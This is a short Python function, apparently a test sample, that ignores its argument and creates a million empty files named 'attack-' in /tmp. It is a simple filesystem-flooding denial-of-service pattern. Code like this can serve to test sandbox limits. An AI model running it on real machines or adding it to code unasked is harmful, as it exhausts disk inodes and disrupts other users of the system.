def f(n):
    for i in range(10 ** 6):
        open(f'/tmp/attack-{i}', 'w').close()
